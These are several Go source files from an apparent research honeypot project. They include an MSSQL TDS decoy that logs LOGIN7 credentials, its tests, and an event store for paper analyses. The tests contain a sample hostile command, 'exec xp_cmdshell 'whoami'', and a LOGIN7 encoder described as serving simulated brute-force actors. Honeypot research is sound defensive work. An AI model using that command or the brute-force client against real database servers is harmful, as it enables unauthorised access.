// EncryptNotSup tells clients the server does not support encryption, so
// the LOGIN7 arrives in the clear — exactly what a credential-harvesting
// honeypot wants and what ancient exposed MSSQL boxes actually do.
const EncryptNotSup = 0x02

// EncodePrelogin renders a PRELOGIN payload from (token, data) pairs in
// the given order.
func EncodePrelogin(opts [][2][]byte) []byte {
	// Option table: 5 bytes per option + terminator.
	tableLen := len(opts)*5 + 1
	w := wire.NewWriter(tableLen + 16)
	off := tableLen
	for _, o := range opts {
		w.Uint8(o[0][0])
		w.Uint16BE(uint16(off))
		w.Uint16BE(uint16(len(o[1])))
		off += len(o[1])
	}
	w.Uint8(PreloginTerminator)
	for _, o := range opts {
		w.Raw(o[1])
	}
	return w.Bytes()
}

// StandardPrelogin builds the prelogin body advertising version and
// encryption mode.
func StandardPrelogin(major, minor byte, build uint16, encrypt byte) []byte {
	version := []byte{major, minor, byte(build >> 8), byte(build), 0, 0}
	return EncodePrelogin([][2][]byte{
		{{PreloginVersion}, version},
		{{PreloginEncryption}, {encrypt}},
		{{PreloginInstOpt}, {0}},
		{{PreloginThreadID}, {0, 0, 0, 0}},
		{{PreloginMARS}, {0}},
	})
}

// ParsePreloginEncryption extracts the ENCRYPTION option from a prelogin
// payload, returning 0xFF if absent or malformed.
func ParsePreloginEncryption(payload []byte) byte {
	r := wire.NewReader(payload)
	for {
		tok, err := r.Uint8()
		if err != nil || tok == PreloginTerminator {
			return 0xff
		}
		off, err := r.Uint16BE()
		if err != nil {
			return 0xff
		}
		length, err := r.Uint16BE()
		if err != nil {
			return 0xff
		}
		if tok == PreloginEncryption && length >= 1 && int(off) < len(payload) {
			return payload[off]
		}
	}
}

// Login7 carries the credential-bearing fields of a LOGIN7 record.
type Login7 struct {
	TDSVersion uint32
	HostName   string
	UserName   string
	Password   string
	AppName    string
	ServerName string
	CltIntName string
	Database   string
}

// login7 field descriptor order within the offset/length table.
const (
	fHostName = iota
	fUserName
	fPassword
	fAppName
	fServerName
	fUnused
	fCltIntName
	fLanguage
	fDatabase
	nFields
)

// ParseLogin7 decodes a LOGIN7 payload, de-obfuscating the password.
func ParseLogin7(payload []byte) (Login7, error) {
	r := wire.NewReader(payload)
	var l Login7
	total, err := r.Uint32LE()
	if err != nil {
		return l, err
	}
	if int(total) > len(payload) {
		return l, fmt.Errorf("mssql: login7 declared length %d > payload %d", total, len(payload))
	}
	if l.TDSVersion, err = r.Uint32LE(); err != nil {
		return l, err
	}
	// PacketSize, ClientProgVer, ClientPID, ConnectionID.
	if err = r.Skip(16); err != nil {
		return l, err
	}
	// OptionFlags1/2, TypeFlags, OptionFlags3, ClientTimeZone, ClientLCID.
	if err = r.Skip(4 + 4 + 4); err != nil {
		return l, err
	}
	type fieldRef struct{ off, n uint16 }
	var refs [nFields]fieldRef
	for i := 0; i < nFields; i++ {
		if refs[i].off, err = r.Uint16LE(); err != nil {
			return l, err
		}
		if refs[i].n, err = r.Uint16LE(); err != nil {
			return l, err
		}
	}
	str := func(i int, password bool) string {
		off, n := int(refs[i].off), int(refs[i].n) // n counts UCS-2 chars
		if n == 0 || off < 0 || off+2*n > len(payload) {
			return ""
		}
		raw := payload[off : off+2*n]
		if password {
			dec := make([]byte, len(raw))
			for j, b := range raw {
				b ^= 0xa5
				dec[j] = (b >> 4) | (b << 4)
			}
			raw = dec
		}
		return decodeUCS2(raw)
	}
	l.HostName = str(fHostName, false)
	l.UserName = str(fUserName, false)
	l.Password = str(fPassword, true)
	l.AppName = str(fAppName, false)
	l.ServerName = str(fServerName, false)
	l.CltIntName = str(fCltIntName, false)
	l.Database = str(fDatabase, false)
	return l, nil
}

// EncodeLogin7 renders a LOGIN7 payload (client side; used by the
// simulator's brute-force actors).
func EncodeLogin7(l Login7) []byte {
	fields := [nFields]string{
		fHostName:   l.HostName,
		fUserName:   l.UserName,
		fPassword:   l.Password,
		fAppName:    l.AppName,
		fServerName: l.ServerName,
		fCltIntName: l.CltIntName,
		fDatabase:   l.Database,
	}
	// Fixed part layout: Length(4) TDSVersion(4) PacketSize(4)
	// ClientProgVer(4) ClientPID(4) ConnectionID(4) flags(4)
	// TimeZone(4) LCID(4) offsets(nFields*4) ClientID(6) SSPI off/len(4)
	// AtchDBFile off/len(4) ChangePassword off/len(4) SSPILong(4).
	fixed := 9*4 + nFields*4 + 6 + 4 + 4 + 4 + 4
	var data []byte
	var refs [nFields][2]uint16
	off := fixed
	for i, s := range fields {
		enc := encodeUCS2(s)
		if i == fPassword {
			for j := range enc {
				b := enc[j]
				b = (b >> 4) | (b << 4)
				enc[j] = b ^ 0xa5
			}
		}
		refs[i] = [2]uint16{uint16(off), uint16(len(s))}
		data = append(data, enc...)
		off += len(enc)
	}
	w := wire.NewWriter(fixed + len(data))
	w.Uint32LE(uint32(fixed + len(data)))
	tdsVer := l.TDSVersion
	if tdsVer == 0 {
		tdsVer = 0x74000004 // TDS 7.4
	}
	w.Uint32LE(tdsVer)
	w.Uint32LE(4096) // packet size
	w.Uint32LE(7)    // client prog version
	w.Uint32LE(1000) // client PID
	w.Uint32LE(0)    // connection id
	w.Uint8(0xe0).Uint8(0x03).Uint8(0).Uint8(0)
	w.Uint32LE(0) // timezone
	w.Uint32LE(0) // LCID
	for i := 0; i < nFields; i++ {
		w.Uint16LE(refs[i][0])
		w.Uint16LE(refs[i][1])
	}
	w.Raw([]byte{0, 1, 2, 3, 4, 5})                   // ClientID (MAC)
	w.Uint16LE(uint16(fixed + len(data))).Uint16LE(0) // SSPI
	w.Uint16LE(uint16(fixed + len(data))).Uint16LE(0) // AtchDBFile
	w.Uint16LE(uint16(fixed + len(data))).Uint16LE(0) // ChangePassword
	w.Uint32LE(0)                                     // SSPI long
	w.Raw(data)
	return w.Bytes()
}

// LoginFailedResponse renders the token stream MSSQL sends for a failed
// login: ERROR token 18456 followed by DONE(error).
func LoginFailedResponse(user string) []byte {
	msg := fmt.Sprintf("Login failed for user '%s'.", user)
	msgU := encodeUCS2(msg)
	srv := encodeUCS2("HONEYSQL")
	w := wire.NewWriter(64 + len(msgU))
	w.Uint8(0xaa) // ERROR token
	// token length: number(4) state(1) class(1) msgLen(2)+msg srvLen(1)+srv procLen(1) line(4)
	tokLen := 4 + 1 + 1 + 2 + len(msgU) + 1 + len(srv) + 1 + 4
	w.Uint16LE(uint16(tokLen))
	w.Uint32LE(18456) // error number
	w.Uint8(1)        // state
	w.Uint8(14)       // class (severity)
	w.Uint16LE(uint16(len(msg)))
	w.Raw(msgU)
	w.Uint8(byte(len("HONEYSQL")))
	w.Raw(srv)
	w.Uint8(0)    // proc name length
	w.Uint32LE(1) // line number
	// DONE token: status DONE_ERROR(0x0002) | DONE_FINAL(0x0000)
	w.Uint8(0xfd)
	w.Uint16LE(0x0002)
	w.Uint16LE(0)
	w.Uint64LE(0)
	return w.Bytes()
}

// ParseError extracts (code, message) from an ERROR token stream (client
// side, used by simulated attackers to confirm the login failed).
func ParseError(payload []byte) (uint32, string, bool) {
	r := wire.NewReader(payload)
	tok, err := r.Uint8()
	if err != nil || tok != 0xaa {
		return 0, "", false
	}
	if _, err := r.Uint16LE(); err != nil {
		return 0, "", false
	}
	code, err := r.Uint32LE()
	if err != nil {
		return 0, "", false
	}
	if err := r.Skip(2); err != nil {
		return 0, "", false
	}
	n, err := r.Uint16LE()
	if err != nil {
		return 0, "", false
	}
	raw, err := r.Bytes(int(n) * 2)
	if err != nil {
		return 0, "", false
	}
	return code, decodeUCS2(raw), true
}

func encodeUCS2(s string) []byte {
	u := utf16.Encode([]rune(s))
	out := make([]byte, 2*len(u))
	for i, c := range u {
		out[2*i] = byte(c)
		out[2*i+1] = byte(c >> 8)
	}
	return out
}

func decodeUCS2(b []byte) string {
	u := make([]uint16, len(b)/2)
	for i := range u {
		u[i] = uint16(b[2*i]) | uint16(b[2*i+1])<<8
	}
	return string(utf16.Decode(u))
}
