package mssql

import (
	"bufio"
	"bytes"
	"net"
	"testing"
	"testing/quick"

	"decoydb/internal/core"
	"decoydb/internal/hptest"
)

func TestPacketRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	want := Packet{Type: PktPrelogin, Payload: []byte{9, 8, 7}}
	if err := WritePacket(&buf, want); err != nil {
		t.Fatal(err)
	}
	got, err := ReadPacket(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got.Type != want.Type || !bytes.Equal(got.Payload, want.Payload) {
		t.Fatalf("got %+v want %+v", got, want)
	}
}

func TestPacketBadLength(t *testing.T) {
	// Header claiming a 4-byte total length (less than the header itself).
	hdr := []byte{PktPrelogin, 0, 0, 4, 0, 0, 1, 0}
	if _, err := ReadPacket(bytes.NewReader(hdr)); err == nil {
		t.Fatal("undersized packet accepted")
	}
	// Header claiming more than MaxPacket.
	hdr = []byte{PktPrelogin, 0, 0xff, 0xff, 0, 0, 1, 0}
	if _, err := ReadPacket(bytes.NewReader(hdr)); err == nil {
		t.Fatal("oversized packet accepted")
	}
}

func TestPreloginEncryptionOption(t *testing.T) {
	p := StandardPrelogin(12, 0, 2000, EncryptNotSup)
	if got := ParsePreloginEncryption(p); got != EncryptNotSup {
		t.Fatalf("encryption option = %#x", got)
	}
	if got := ParsePreloginEncryption([]byte{PreloginTerminator}); got != 0xff {
		t.Fatalf("empty prelogin = %#x", got)
	}
	if got := ParsePreloginEncryption(nil); got != 0xff {
		t.Fatalf("nil prelogin = %#x", got)
	}
}

func TestLogin7RoundTrip(t *testing.T) {
	in := Login7{
		HostName:   "WIN-SCANNER01",
		UserName:   "sa",
		Password:   "P@ssw0rd",
		AppName:    "sqlbrute",
		ServerName: "203.0.113.5",
		CltIntName: "ODBC",
		Database:   "master",
	}
	out, err := ParseLogin7(EncodeLogin7(in))
	if err != nil {
		t.Fatal(err)
	}
	if out.UserName != in.UserName || out.Password != in.Password ||
		out.HostName != in.HostName || out.Database != in.Database ||
		out.AppName != in.AppName {
		t.Fatalf("got %+v, want %+v", out, in)
	}
}

// Property: any NUL-free user/password pair survives the TDS password
// obfuscation round trip, including non-ASCII.
func TestLogin7CredentialsQuick(t *testing.T) {
	f := func(user, pass string) bool {
		if len(user) > 120 || len(pass) > 120 {
			return true
		}
		for _, r := range user + pass {
			if r == 0 || r > 0xffff { // UCS-2 fields: BMP only
				return true
			}
		}
		out, err := ParseLogin7(EncodeLogin7(Login7{UserName: user, Password: pass}))
		return err == nil && out.UserName == user && out.Password == pass
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestLogin7Truncated(t *testing.T) {
	full := EncodeLogin7(Login7{UserName: "sa", Password: "123"})
	for _, n := range []int{0, 4, 10, 30} {
		if _, err := ParseLogin7(full[:n]); err == nil {
			t.Fatalf("truncated login7 (%d bytes) accepted", n)
		}
	}
}

func TestLoginFailedResponseParses(t *testing.T) {
	code, msg, ok := ParseError(LoginFailedResponse("sa"))
	if !ok || code != 18456 {
		t.Fatalf("ParseError = %d, %q, %v", code, msg, ok)
	}
	if msg != "Login failed for user 'sa'." {
		t.Fatalf("msg = %q", msg)
	}
}

func mssqlInfo() core.Info {
	return core.Info{DBMS: core.MSSQL, Level: core.Low, Port: 1433, Config: core.ConfigDefault, Group: core.GroupMulti}
}

// Attempt performs a full client-side login attempt (prelogin + login7).
func Attempt(t *testing.T, conn net.Conn, user, pass string) (uint32, string) {
	t.Helper()
	br := bufio.NewReader(conn)
	if err := WritePacket(conn, Packet{Type: PktPrelogin, Payload: StandardPrelogin(11, 0, 0, 0)}); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadPacket(br); err != nil {
		t.Fatalf("prelogin response: %v", err)
	}
	l7 := EncodeLogin7(Login7{HostName: "kali", UserName: user, Password: pass, AppName: "OSQL-32"})
	if err := WritePacket(conn, Packet{Type: PktLogin7, Payload: l7}); err != nil {
		t.Fatal(err)
	}
	resp, err := ReadPacket(br)
	if err != nil {
		t.Fatalf("login response: %v", err)
	}
	code, msg, ok := ParseError(resp.Payload)
	if !ok {
		t.Fatalf("login response not an ERROR token: % x", resp.Payload[:min(16, len(resp.Payload))])
	}
	return code, msg
}

func TestHoneypotCapturesCredentials(t *testing.T) {
	hp := New()
	events := hptest.Run(t, hp.Handler(), mssqlInfo(), func(t *testing.T, conn net.Conn) {
		code, _ := Attempt(t, conn, "sa", "123")
		if code != 18456 {
			t.Errorf("error code = %d", code)
		}
	})
	logins := hptest.Logins(events)
	if len(logins) != 1 || logins[0] != [2]string{"sa", "123"} {
		t.Fatalf("logins = %v", logins)
	}
}

func TestHoneypotClosesAfterFailedLogin(t *testing.T) {
	hp := New()
	hptest.Run(t, hp.Handler(), mssqlInfo(), func(t *testing.T, conn net.Conn) {
		Attempt(t, conn, "admin", "123456")
		// The server must close: a follow-up read yields EOF.
		var one [1]byte
		if _, err := conn.Read(one[:]); err == nil {
			t.Error("connection still open after failed login")
		}
	})
}

func TestHoneypotPreAuthBatch(t *testing.T) {
	hp := New()
	events := hptest.Run(t, hp.Handler(), mssqlInfo(), func(t *testing.T, conn net.Conn) {
		batch := encodeUCS2("exec xp_cmdshell 'whoami'")
		if err := WritePacket(conn, Packet{Type: PktSQLBatch, Payload: batch}); err != nil {
			t.Fatal(err)
		}
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "SQLBATCH-PREAUTH" {
		t.Fatalf("commands = %v", cmds)
	}
	for _, e := range events {
		if e.Kind == core.EventCommand && e.Raw != "exec xp_cmdshell 'whoami'" {
			t.Fatalf("raw = %q", e.Raw)
		}
	}
}

func TestUCS2RoundTrip(t *testing.T) {
	cases := []string{"", "sa", "pässwörd", "密码123"}
	for _, s := range cases {
		if got := decodeUCS2(encodeUCS2(s)); got != s {
			t.Errorf("decodeUCS2(encodeUCS2(%q)) = %q", s, got)
		}
	}
}

// Property: prelogin encode/parse preserves the encryption option for any
// byte value.
func TestPreloginEncryptionQuick(t *testing.T) {
	f := func(enc byte, major, minor byte, build uint16) bool {
		p := StandardPrelogin(major, minor, build, enc)
		return ParsePreloginEncryption(p) == enc
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
