package mssql

import (
	"bufio"
	"context"
	"errors"
	"io"
	"net"

	"decoydb/internal/core"
)

// Honeypot is the low-interaction MSSQL honeypot: answer PRELOGIN, capture
// LOGIN7 credentials, reply "Login failed", close. Real MSSQL drops the
// connection after a failed login, so brute-forcers reconnect per attempt;
// the honeypot does the same, which is why the simulator's heavy
// brute-force campaigns open one connection per credential pair.
type Honeypot struct{}

// New returns an MSSQL honeypot.
func New() *Honeypot { return &Honeypot{} }

// Handler returns a core.Handler bound to this honeypot.
func (h *Honeypot) Handler() core.Handler {
	return core.HandlerFunc(h.HandleConn)
}

// HandleConn serves one client connection.
func (h *Honeypot) HandleConn(ctx context.Context, conn net.Conn, s *core.Session) error {
	s.Connect()
	br := bufio.NewReaderSize(conn, 8192)
	bw := bufio.NewWriterSize(conn, 4096)

	for {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		pkt, err := ReadPacket(br)
		if err != nil {
			if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
				return nil
			}
			return err
		}
		switch pkt.Type {
		case PktPrelogin:
			resp := StandardPrelogin(12, 0, 2000, EncryptNotSup)
			if err := WritePacket(bw, Packet{Type: PktResponse, Payload: resp}); err != nil {
				return err
			}
			if err := bw.Flush(); err != nil {
				return err
			}
		case PktLogin7:
			l, err := ParseLogin7(pkt.Payload)
			if err != nil {
				s.Command("MALFORMED-LOGIN7", err.Error())
				return nil
			}
			s.Login(l.UserName, l.Password, false)
			if err := WritePacket(bw, Packet{Type: PktResponse, Payload: LoginFailedResponse(l.UserName)}); err != nil {
				return err
			}
			if err := bw.Flush(); err != nil {
				return err
			}
			return nil // server closes after failed login
		case PktSQLBatch:
			// Unauthenticated batch: log and drop, nothing legitimate
			// sends this before LOGIN7.
			s.Command("SQLBATCH-PREAUTH", decodeUCS2(pkt.Payload))
			return nil
		default:
			s.Command("UNEXPECTED-TDS", string(rune('0'+pkt.Type)))
			return nil
		}
	}
}
