// Package evstore is the queryable event store at the end of the paper's
// data pipeline (Figure 1). The paper converted heterogeneous honeypot
// logs into SQLite databases enriched with GeoIP/ASN data; evstore plays
// that role as an embedded, typed store designed around the analyses the
// paper runs: per-IP activity records, per-hour unique-client series,
// aggregated login/credential counts, and bounded command sequences for
// classification and clustering.
//
// Login events are aggregated rather than stored row-by-row: the paper's
// dataset contains 18.16M brute-force logins from a few hundred sources,
// which aggregates losslessly into (source, honeypot, credential) counts —
// every login analysis in the paper is expressible over those counts.
//
// The store is sharded by source IP with the same hash the event bus
// uses (core.ShardOf). Each shard owns its own mutex and maps, so when
// the store's shard count matches the bus's, every delivery batch a bus
// worker commits lands in exactly one shard and ingest never contends
// across workers. Reads merge shards at query time; sharding by source
// makes the shards disjoint address sets, so unique-count merges are
// plain sums. All reads go through the Query options struct (see
// query.go) or through an immutable point-in-time Snapshot (snapshot.go).
package evstore

import (
	"fmt"
	"net/netip"
	"runtime"
	"sort"
	"sync"
	"time"

	"decoydb/internal/asdb"
	"decoydb/internal/core"
	"decoydb/internal/geoip"
	"decoydb/internal/wal"
)

// PerKey identifies a honeypot grouping an IP interacted with.
type PerKey struct {
	DBMS   string
	Level  core.Level
	Config string
	Group  string
}

// Action is one normalised command with its raw excerpt.
type Action struct {
	Name string
	Raw  string
}

// MaxActionsPerActivity bounds the command sequence kept per (IP,
// honeypot) pair; longer sessions keep counting but stop appending.
const MaxActionsPerActivity = 512

// Activity accumulates one source IP's interaction with one honeypot
// grouping.
type Activity struct {
	Sessions    int
	Logins      int64
	LoginOK     int64
	CommandsRun int64
	ActiveDays  uint64 // bitmask over experiment days (max MaxDays days)
	Actions     []Action
}

// DayCount reports the number of distinct active days.
func (a *Activity) DayCount() int {
	n := 0
	for d := a.ActiveDays; d != 0; d &= d - 1 {
		n++
	}
	return n
}

// IPRecord is everything known about one source address.
type IPRecord struct {
	Addr          netip.Addr
	Country       string
	ASN           uint32
	ASName        string
	ASType        asdb.Type
	Institutional bool
	FirstSeen     time.Time
	LastSeen      time.Time
	Per           map[PerKey]*Activity
}

// TotalLogins sums login attempts across honeypots.
func (r *IPRecord) TotalLogins() int64 {
	var n int64
	for _, a := range r.Per {
		n += a.Logins
	}
	return n
}

// ActiveDaysMask returns the union of active-day bitmasks over the
// activities matching q (DBMS and Tier; see Query.MatchKey). A non-zero
// q.Days additionally intersects the union with the selected day window.
func (r *IPRecord) ActiveDaysMask(q Query) uint64 {
	var m uint64
	for k, a := range r.Per {
		if q.MatchKey(k) {
			m |= a.ActiveDays
		}
	}
	if !q.Days.IsZero() {
		m &= q.Days.Mask(MaxDays)
	}
	return m
}

// clone deep-copies the record: the Per map and every Activity including
// its Actions slice. Snapshots hand clones to the analysis layer so later
// ingest cannot race with reads.
func (r *IPRecord) clone() *IPRecord {
	c := *r
	c.Per = make(map[PerKey]*Activity, len(r.Per))
	for k, a := range r.Per {
		ac := *a
		ac.Actions = append([]Action(nil), a.Actions...)
		c.Per[k] = &ac
	}
	return &c
}

// Cred is an aggregated credential observation. Low separates the
// low-interaction tier from medium/high: the paper's credential tables
// (5, 6, 12) cover the low tier only, while the PostgreSQL configuration
// comparison uses medium-tier logins.
type Cred struct {
	DBMS string
	User string
	Pass string
	Low  bool
}

// storeShard is one independently locked partition of the store. The
// hourly series map is keyed by DBMS name ("" = all DBMS); the series
// track the low tier only (Figure 2, Figures 6–9).
type storeShard struct {
	mu     sync.Mutex
	ips    map[netip.Addr]*IPRecord
	creds  map[Cred]int64
	hourly map[string][]map[netip.Addr]struct{} // dbms -> hour -> unique IPs
	events int64
}

func newShard() *storeShard {
	return &storeShard{
		ips:    make(map[netip.Addr]*IPRecord),
		creds:  make(map[Cred]int64),
		hourly: make(map[string][]map[netip.Addr]struct{}),
	}
}

// Store accumulates events, partitioned by source IP into independently
// locked shards. It implements core.Sink and core.BatchSink and is safe
// for concurrent use.
type Store struct {
	start  time.Time
	days   int
	geo    *geoip.DB
	shards []*storeShard
	wal    *wal.Log // optional journal; see wal.go
}

// MaxDays is the longest supported experiment window: the per-activity
// day bitmask is 64 bits wide. The paper's deployments ran 20 days; the
// extended-deployment future work fits well inside 64.
const MaxDays = 64

// New creates a store for an experiment window starting at start and
// lasting days days (max MaxDays), enriching sources against geo. The
// shard count defaults to GOMAXPROCS — the same default the event bus
// uses — so a bus and a store built with defaults have matching
// partitions and batch commits never cross shards.
func New(start time.Time, days int, geo *geoip.DB) *Store {
	return NewSharded(start, days, geo, runtime.GOMAXPROCS(0))
}

// NewSharded is New with an explicit shard count. Pass the bus's shard
// count to keep delivery batches shard-affine; shards < 1 means 1.
// Windows longer than MaxDays are rejected here, at construction, so a
// long capture can never silently truncate its day bitmasks.
func NewSharded(start time.Time, days int, geo *geoip.DB, shards int) *Store {
	if days > MaxDays {
		panic(fmt.Sprintf("evstore: %d-day window exceeds the %d-day bitmask limit", days, MaxDays))
	}
	if shards < 1 {
		shards = 1
	}
	s := &Store{start: start, days: days, geo: geo, shards: make([]*storeShard, shards)}
	for i := range s.shards {
		s.shards[i] = newShard()
	}
	return s
}

// Start returns the experiment start time.
func (s *Store) Start() time.Time { return s.start }

// Days returns the experiment length in days.
func (s *Store) Days() int { return s.days }

// Shards returns the shard count, for matching against bus.Options.Shards.
func (s *Store) Shards() int { return len(s.shards) }

// Events returns the number of events ingested.
func (s *Store) Events() int64 {
	var n int64
	for _, sh := range s.shards {
		sh.mu.Lock()
		n += sh.events
		sh.mu.Unlock()
	}
	return n
}

func (s *Store) shardFor(addr netip.Addr) *storeShard {
	return s.shards[core.ShardOf(addr, len(s.shards))]
}

// Record implements core.Sink.
func (s *Store) Record(e core.Event) {
	if s.wal != nil {
		// The journal works in batch records; route the single event
		// through the batch path so it is persisted before it is applied.
		_ = s.RecordBatch([]core.Event{e})
		return
	}
	sh := s.shardFor(e.Src.Addr())
	sh.mu.Lock()
	s.record(sh, e)
	sh.mu.Unlock()
}

// RecordBatch implements core.BatchSink. With a WAL attached the batch
// is journaled first — a batch the journal did not accept is not
// applied, and the error surfaces to the deliverer. Events are then
// committed in shard-aligned runs: consecutive events hashing to the
// same shard share one lock acquisition. When the batch comes from an
// event bus with a matching shard count, the whole batch is a single
// run — one lock per batch, and different bus workers never touch the
// same shard.
func (s *Store) RecordBatch(events []core.Event) error {
	if err := s.journalBatch(events); err != nil {
		return err
	}
	return s.applyBatch(events)
}

// applyBatch commits events to the shards without journaling — the
// shared tail of RecordBatch, RecordBatchTagged and WAL replay.
func (s *Store) applyBatch(events []core.Event) error {
	n := len(s.shards)
	for i := 0; i < len(events); {
		si := core.ShardOf(events[i].Src.Addr(), n)
		j := i + 1
		for j < len(events) && core.ShardOf(events[j].Src.Addr(), n) == si {
			j++
		}
		sh := s.shards[si]
		sh.mu.Lock()
		for _, e := range events[i:j] {
			s.record(sh, e)
		}
		sh.mu.Unlock()
		i = j
	}
	return nil
}

// record applies one event to its shard. The caller holds sh.mu.
func (s *Store) record(sh *storeShard, e core.Event) {
	sh.events++

	addr := e.Src.Addr()
	rec, ok := sh.ips[addr]
	if !ok {
		rec = &IPRecord{Addr: addr, FirstSeen: e.Time, LastSeen: e.Time, Per: make(map[PerKey]*Activity)}
		if s.geo != nil {
			if g, ok := s.geo.Lookup(addr); ok {
				rec.Country = g.Country
				rec.ASN = g.ASN
				rec.ASName = g.ASName
				rec.ASType = g.ASType
				rec.Institutional = asdb.Institutional(g.ASN)
			} else {
				rec.ASType = asdb.Unknown
			}
		} else {
			rec.ASType = asdb.Unknown
		}
		sh.ips[addr] = rec
	}
	if e.Time.Before(rec.FirstSeen) {
		rec.FirstSeen = e.Time
	}
	if e.Time.After(rec.LastSeen) {
		rec.LastSeen = e.Time
	}

	key := PerKey{DBMS: e.Honeypot.DBMS, Level: e.Honeypot.Level, Config: e.Honeypot.Config, Group: e.Honeypot.Group}
	act := rec.Per[key]
	if act == nil {
		act = &Activity{}
		rec.Per[key] = act
	}
	if day := e.Day(s.start); day >= 0 && day < s.days {
		act.ActiveDays |= 1 << uint(day)
	}

	switch e.Kind {
	case core.EventConnect:
		act.Sessions++
		if e.Honeypot.Level == core.Low {
			hour := e.Hour(s.start)
			s.markHour(sh, "", hour, addr)
			s.markHour(sh, e.Honeypot.DBMS, hour, addr)
		}
	case core.EventLogin:
		act.Logins++
		if e.OK {
			act.LoginOK++
		}
		sh.creds[Cred{DBMS: e.Honeypot.DBMS, User: e.User, Pass: e.Pass, Low: e.Honeypot.Level == core.Low}]++
	case core.EventCommand:
		act.CommandsRun++
		if len(act.Actions) < MaxActionsPerActivity {
			act.Actions = append(act.Actions, Action{Name: e.Command, Raw: e.Raw})
		}
	case core.EventClose:
		// Close carries no aggregate beyond day activity.
	}
}

// markHour adds addr to the hourly unique set of series dbms ("" = all).
// The caller holds sh.mu.
func (s *Store) markHour(sh *storeShard, dbms string, hour int, addr netip.Addr) {
	if hour < 0 || hour >= s.days*24 {
		return
	}
	hs := sh.hourly[dbms]
	if hs == nil {
		hs = make([]map[netip.Addr]struct{}, s.days*24)
		sh.hourly[dbms] = hs
	}
	if hs[hour] == nil {
		hs[hour] = make(map[netip.Addr]struct{})
	}
	hs[hour][addr] = struct{}{}
}

// MarkInstitutional overrides the institutional flag for the given
// addresses and reports how many of them were actually present in the
// capture. The paper identifies institutional scanners from an IP list
// (Griffioen et al.), not from AS ownership; callers holding such a list
// apply it here after ingestion. A return value of zero for a non-empty
// list means the list does not overlap the capture at all — worth a
// warning in report tooling.
func (s *Store) MarkInstitutional(addrs []netip.Addr) int {
	applied := 0
	for _, a := range addrs {
		sh := s.shardFor(a)
		sh.mu.Lock()
		if rec, ok := sh.ips[a]; ok {
			rec.Institutional = true
			applied++
		}
		sh.mu.Unlock()
	}
	return applied
}

// IPs returns all IP records sorted by address. The records are the live
// aggregates: callers that read while ingest continues should use
// Snapshot instead.
func (s *Store) IPs() []*IPRecord {
	var out []*IPRecord
	for _, sh := range s.shards {
		sh.mu.Lock()
		for _, r := range sh.ips {
			out = append(out, r)
		}
		sh.mu.Unlock()
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Addr.Less(out[j].Addr) })
	return out
}

// IP returns the record for addr, or nil.
func (s *Store) IP(addr netip.Addr) *IPRecord {
	sh := s.shardFor(addr)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	return sh.ips[addr]
}
