// Package evstore is the queryable event store at the end of the paper's
// data pipeline (Figure 1). The paper converted heterogeneous honeypot
// logs into SQLite databases enriched with GeoIP/ASN data; evstore plays
// that role as an embedded, typed store designed around the analyses the
// paper runs: per-IP activity records, per-hour unique-client series,
// aggregated login/credential counts, and bounded command sequences for
// classification and clustering.
//
// Login events are aggregated rather than stored row-by-row: the paper's
// dataset contains 18.16M brute-force logins from a few hundred sources,
// which aggregates losslessly into (source, honeypot, credential) counts —
// every login analysis in the paper is expressible over those counts.
package evstore

import (
	"net/netip"
	"sort"
	"sync"
	"time"

	"decoydb/internal/asdb"
	"decoydb/internal/core"
	"decoydb/internal/geoip"
)

// PerKey identifies a honeypot grouping an IP interacted with.
type PerKey struct {
	DBMS   string
	Level  core.Level
	Config string
	Group  string
}

// Action is one normalised command with its raw excerpt.
type Action struct {
	Name string
	Raw  string
}

// MaxActionsPerActivity bounds the command sequence kept per (IP,
// honeypot) pair; longer sessions keep counting but stop appending.
const MaxActionsPerActivity = 512

// Activity accumulates one source IP's interaction with one honeypot
// grouping.
type Activity struct {
	Sessions    int
	Logins      int64
	LoginOK     int64
	CommandsRun int64
	ActiveDays  uint32 // bitmask over experiment days (max 32 days)
	Actions     []Action
}

// DayCount reports the number of distinct active days.
func (a *Activity) DayCount() int {
	n := 0
	for d := a.ActiveDays; d != 0; d &= d - 1 {
		n++
	}
	return n
}

// IPRecord is everything known about one source address.
type IPRecord struct {
	Addr          netip.Addr
	Country       string
	ASN           uint32
	ASName        string
	ASType        asdb.Type
	Institutional bool
	FirstSeen     time.Time
	LastSeen      time.Time
	Per           map[PerKey]*Activity
}

// TotalLogins sums login attempts across honeypots.
func (r *IPRecord) TotalLogins() int64 {
	var n int64
	for _, a := range r.Per {
		n += a.Logins
	}
	return n
}

// ActiveDaysMask returns the union of active-day bitmasks, optionally
// restricted by filter (nil = all).
func (r *IPRecord) ActiveDaysMask(filter func(PerKey) bool) uint32 {
	var m uint32
	for k, a := range r.Per {
		if filter == nil || filter(k) {
			m |= a.ActiveDays
		}
	}
	return m
}

// Cred is an aggregated credential observation. Low separates the
// low-interaction tier from medium/high: the paper's credential tables
// (5, 6, 12) cover the low tier only, while the PostgreSQL configuration
// comparison uses medium-tier logins.
type Cred struct {
	DBMS string
	User string
	Pass string
	Low  bool
}

// Series names for hourly unique-client tracking (low tier, per Figure 2
// and Figures 6–9).
func seriesAll() string { return "low" }
func seriesDBMS(dbms string) string {
	return "low:" + dbms
}

// Store accumulates events. It implements core.Sink and is safe for
// concurrent use.
type Store struct {
	mu sync.Mutex

	start time.Time
	days  int
	geo   *geoip.DB

	ips    map[netip.Addr]*IPRecord
	creds  map[Cred]int64
	hourly map[string][]map[netip.Addr]struct{} // series -> hour -> unique IPs
	events int64
}

// New creates a store for an experiment window starting at start and
// lasting days days (max 32), enriching sources against geo.
func New(start time.Time, days int, geo *geoip.DB) *Store {
	if days > 32 {
		panic("evstore: day bitmask supports at most 32 days")
	}
	return &Store{
		start:  start,
		days:   days,
		geo:    geo,
		ips:    make(map[netip.Addr]*IPRecord),
		creds:  make(map[Cred]int64),
		hourly: make(map[string][]map[netip.Addr]struct{}),
	}
}

// Start returns the experiment start time.
func (s *Store) Start() time.Time { return s.start }

// Days returns the experiment length in days.
func (s *Store) Days() int { return s.days }

// Events returns the number of events ingested.
